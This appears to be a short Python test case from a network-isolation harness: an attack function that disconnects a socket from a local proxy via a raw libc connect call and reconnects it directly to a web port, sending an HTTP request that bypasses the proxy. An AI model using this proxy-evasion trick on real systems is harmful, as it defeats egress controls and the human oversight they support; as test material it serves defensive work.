"""A socket that has parted from the proxy, connected elsewhere."""


def attack(host):
    s = socket.create_connection(("127.0.0.1", 3128), 5)
    s.shutdown(socket.SHUT_RDWR)
    time.sleep(0.1)
    libc("connect", s.fileno(), bytes(16), 16)
    s.connect(("127.0.0.1", host["web_port"]))
    s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    return s.recv(65536).decode() or "held"
